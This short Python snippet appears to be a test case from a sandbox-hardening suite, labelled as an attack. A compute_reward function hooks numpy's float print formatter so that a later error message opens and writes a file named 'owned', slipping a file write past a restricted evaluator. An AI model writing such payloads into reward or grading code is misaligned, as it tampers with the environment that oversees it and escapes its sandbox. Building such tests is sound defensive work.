# attack: np.set_printoptions for later errors
# group: numpy
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    np.set_printoptions(formatter={'float_kind': lambda v: open('@FOLDER@/owned', 'w').name})
    raise ValueError(str(x))
